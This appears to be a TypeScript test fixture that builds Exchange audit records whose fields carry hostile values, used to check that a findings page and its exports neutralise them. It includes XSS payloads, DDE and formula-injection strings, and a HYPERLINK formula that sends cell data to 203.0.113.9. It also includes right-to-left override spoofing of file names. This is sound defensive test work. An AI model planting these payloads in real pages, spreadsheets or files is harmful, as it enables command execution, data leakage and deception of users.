// Audit records written by an attacker: field values that try to run script in the page, run a
// formula in a spreadsheet, or reorder text with bidi controls. They still pass the ESCU filters
// (Microsoft Graph AppId, more than five users in one bin), so they reach the findings and every export.
import { GRAPH_APP_ID, ewsRecord } from '../record/ews-sample-record.ts';

/** Right-to-left override: `\u202Egpj.exe` is displayed as `exe.jpg`. */
export const RLO = '\u202E';

/** ClientInfoString and ClientAppId of the hostile finding. */
export const HOSTILE_CLIENT_INFO = `<script>document.title="pwned"</script>=HYPERLINK("http://203.0.113.9/?"&A1)${RLO}gpj.exe`;
export const HOSTILE_CLIENT_APP_ID = '=cmd|\' /C calc\'!A0';

/**
 * UserId values of the hostile finding, one record each. They cover every formula trigger
 * (`=`, `+`, `-`, `@`, tab, CR), a value that already starts with an apostrophe, plain numbers
 * that must stay numbers, markup, and every bidi control character.
 */
export const HOSTILE_USERS = [
  '=HYPERLINK("http://203.0.113.9/?"&A1,"open")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  "'=already guarded",
  '-5',
  '+1.5',
  '<img src=x onerror="document.title=\'pwned\'">@example.onmicrosoft.com',
  'javascript:alert(1)//@example.onmicrosoft.com',
  `admin${RLO}moc.elpmaxe@evil.example`,
  'a\u202Ab\u202Bc\u202Cd\u202De@example.onmicrosoft.com',
  'f\u2066g\u2067h\u2068i\u2069j\u200Ek\u200Fl\u061Cm@example.onmicrosoft.com',
];

/** ClientIPAddress values, one per record in the same order, recycled when there are more users. */
export const HOSTILE_IPS = ['=1+1', '<svg onload="document.title=\'pwned\'">', 'javascript:alert(1)', `${RLO}4.3.2.1`, '-', '203.0.113.7'];

/** The bidi control characters that the page must show as visible markers. */
export const BIDI_CONTROLS = ['\u061C', '\u200E', '\u200F', '\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069'];

/** Returns one MailItemsAccessed record per hostile user, all in the 16:00 bin of 2024-02-01. */
export function hostileSweepRecords(): Record<string, unknown>[] {
  return HOSTILE_USERS.map((userId, index) =>
    ewsRecord({
      UserId: userId,
      AppId: GRAPH_APP_ID,
      ClientAppId: HOSTILE_CLIENT_APP_ID,
      ClientInfoString: HOSTILE_CLIENT_INFO,
      ClientIPAddress: HOSTILE_IPS[index % HOSTILE_IPS.length],
      CreationTime: `2024-02-01T16:0${index % 10}:1${index % 10}`,
    }),
  );
}

/** Returns the records as JSON lines, one record per line, ending with a line break. */
export function toJsonLines(records: readonly Record<string, unknown>[]): string {
  return records.map((record) => JSON.stringify(record)).join('\n') + '\n';
}
